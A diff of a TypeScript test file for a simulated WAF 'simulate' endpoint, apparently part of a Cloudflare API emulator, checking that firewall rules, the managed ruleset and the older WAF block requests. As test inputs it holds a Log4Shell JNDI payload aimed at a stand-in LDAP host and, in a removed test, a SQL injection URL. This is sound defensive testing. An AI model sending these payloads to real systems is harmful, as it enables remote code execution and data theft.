@@ -1,9 +1,11 @@
 // POST /zones/{zone_id}/simulate (a cfrules extension, docs/api.md §12) over HTTP (fastify.inject): the
-// body's checks with their JSON pointers, the limit, who may call it, and the simulations themselves
-// against what the zone stores, as it changes.
+// zone's stored configuration evaluated on sample requests, the body's checks with their JSON pointers,
+// who may call it, and a zone changed between two simulations.
 import { describe, expect, it } from 'vitest';
+import { CLOUDFLARE_MANAGED_RULESET_ID } from '../../src/engine/managed/index.js';
+import { PREVIOUS_WAF_RULES } from '../../src/engine/previous-waf/index.js';
 import { CODES } from '../../src/service/errors.js';
-import { freshHarnessPerTest, type Harness, OTHER_TOKEN, ZONES, zonePath } from './harness.js';
+import { freshHarnessPerTest, type Harness, OTHER_TOKEN, READ_TOKEN, ZONES, zonePath } from './harness.js';
 
 let h: Harness;
 freshHarnessPerTest((fresh) => {
@@ -23,15 +25,117 @@ const request = (path: string, headers: [string, string][] = []) => ({
 });
 const page = request('/index.html');
 const admin = request('/admin');
+// biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is ${…} text, as attackers send it
+const log4shell = request('/', [['X-Api-Version', '${jndi:ldap://198.51.100.7/a}']]);
+
+async function configure() {
+  const rules = await h.call({
+    method: 'POST',
+    url: zonePath(Z, '/firewall/rules'),
+    payload: [
+      {
+        action: 'block',
+        description: 'no admin',
+        filter: { expression: 'http.request.uri.path eq "/admin"' },
+      },
+    ],
+  });
+  expect(rules.status, JSON.stringify(rules.body)).toBe(200);
+  // Migrated (Enterprise, phase two): the managed entry point runs and the previous WAF no longer does.
+  const managed = await h.call({
+    method: 'PUT',
+    url: zonePath(
+      Z,
+      '/rulesets/phases/http_request_firewall_managed/entrypoint?waf_migration=pending&phase_two=1',
+    ),
+    payload: {
+      rules: [
+        { action: 'execute', expression: 'true', action_parameters: { id: CLOUDFLARE_MANAGED_RULESET_ID } },
+      ],
+    },
+  });
+  expect(managed.status, JSON.stringify(managed.body)).toBe(200);
+  return { firewallRule: rules.body.result[0].id as string, entryPoint: managed.body.result.id as string };
+}
 
 describe('POST /zones/{zone_id}/simulate', () => {
-  it('refuses a token that does not reach the zone', async () => {
+  it('evaluates one request against the firewall rules and the managed entry point', async () => {
+    const { firewallRule } = await configure();
+    const blocked = await simulate({ request: admin });
+    expect(blocked.status, JSON.stringify(blocked.body)).toBe(200);
+    expect(blocked.body.result).toMatchObject({
+      action: 'block',
+      decidedBy: { id: firewallRule, description: 'no admin', stage: 'firewall_rules' },
+    });
+    expect(blocked.body.result.trace.length).toBeGreaterThan(0);
+  });
+
+  it('evaluates a list of requests, in order', async () => {
+    await configure();
+    const { status, body } = await simulate({ requests: [page, admin, log4shell] });
+    expect(status).toBe(200);
+    expect(body.result.map((result: { action: string }) => result.action)).toEqual([
+      'none',
+      'block',
+      'block',
+    ]);
+    expect(body.result[2].decidedBy).toMatchObject({
+      ruleset: CLOUDFLARE_MANAGED_RULESET_ID,
+      stage: 'http_request_firewall_managed',
+    });
+  });
+
+  it('leaves the traces out with trace: false', async () => {
+    await configure();
+    const { body } = await simulate({ requests: [admin], trace: false });
+    expect(body.result[0]).toMatchObject({ action: 'block', trace: [] });
+  });
+
+  it('simulates the zone as it is now: a new rule counts at once', async () => {
+    await configure();
+    expect((await simulate({ request: page })).body.result.action).toBe('none');
+    await h.call({
+      method: 'POST',
+      url: zonePath(Z, '/firewall/rules'),
+      payload: [{ action: 'challenge', filter: { expression: 'http.request.uri.path eq "/index.html"' } }],
+    });
+    expect((await simulate({ request: page })).body.result.action).toBe('challenge');
+  });
+
+  it('reads with a read-only token; refuses a token that does not reach the zone', async () => {
+    await configure();
+    expect((await simulate({ request: admin }, READ_TOKEN)).body.result.action).toBe('block');
     const refused = await simulate({ request: admin }, OTHER_TOKEN);
     expect(refused.status).toBe(403);
     expect(refused.body.success).toBe(false);
     expect(refused.body.errors[0]?.code).toBe(CODES.notPermitted);
   });
 
+  it('runs the previous WAF of a zone that has not migrated, with its settings', async () => {
+    const zone = zonePath(ZONES.business);
+    const run = async () =>
+      (await h.call({ method: 'POST', url: `${zone}/simulate`, payload: { request: log4shell } })).body
+        .result;
+    const before = await run();
+    expect(before).toMatchObject({ action: 'block', decidedBy: { stage: 'previous_waf' } });
+    expect(
+      before.trace.find((stage: { name: string }) => stage.name === 'http_request_firewall_managed')?.status,
+    ).toBe('off');
+    // The rule that blocked, set to simulate: it only logs, and the request goes on.
+    const packageId = PREVIOUS_WAF_RULES.find((rule) => rule.id === before.decidedBy.id)?.package_id;
+    const patched = await h.call({
+      method: 'PATCH',
+      url: `${zone}/firewall/waf/packages/${packageId}/rules/${before.decidedBy.id}`,
+      payload: { mode: 'simulate' },
+    });
+    expect(patched.status).toBe(200);
+    const after = await run();
+    expect(after.decidedBy?.id).not.toBe(before.decidedBy.id);
+    expect(after.matched.map((rule: { id: string }) => rule.id)).toContain(before.decidedBy.id);
+  });
+});
+
+describe('POST /zones/{zone_id}/simulate: bad requests', () => {
   it('points at each problem of a bad request, and simulates nothing', async () => {
     const bad = {
       ...page,
@@ -89,52 +193,5 @@ describe('POST /zones/{zone_id}/simulate', () => {
       payload: { request: page },
     });
     expect(unknown.status).toBe(404);
-  });
-
-  it('simulates requests against the stored firewall rules and entry points, and sees changes', async () => {
-    const created = await h.call({
-      method: 'POST',
-      url: zonePath(Z, '/firewall/rules'),
-      payload: [
-        {
-          action: 'block',
-          ref: 'admin-block',
-          filter: { expression: 'starts_with(http.request.uri.path, "/admin")' },
-        },
-      ],
-    });
-    expect(created.status).toBe(200);
-    const one = await simulate({ request: admin });
-    expect(one.status).toBe(200);
-    expect(one.body.result).toMatchObject({
-      action: 'block',
-      decidedBy: { ref: 'admin-block', stage: 'firewall_rules' },
-    });
-    expect(one.body.result.trace[0]).toMatchObject({ name: 'firewall_rules', status: 'evaluated' });
-
-    const entryPoint = await h.call({
-      method: 'PUT',
-      url: zonePath(Z, '/rulesets/phases/http_request_firewall_managed/entrypoint'),
-      payload: {
-        rules: [
-          {
-            action: 'execute',
-            expression: 'true',
-            action_parameters: { id: 'efb7b8c949ac4650a09736fc376e9aee' },
-          },
-        ],
-      },
-    });
-    expect(entryPoint.status).toBe(200);
-    const sqli = request('/p?id=1%20UNION%20SELECT%20password%20FROM%20users');
-    const many = await simulate({ requests: [page, sqli], trace: false });
-    expect(many.status).toBe(200);
-    expect(many.body.result.map((r: { action: string }) => r.action)).toEqual(['none', 'block']);
-    // The zone has not migrated: its previous WAF runs, and the new WAF's entry point waits for the
-    // migration (GET …/waf_migration/status says new_waf_status: disabled).
-    expect(many.body.result[1]).toMatchObject({
-      decidedBy: { stage: 'previous_waf' },
-      trace: [],
-    });
   });
 });
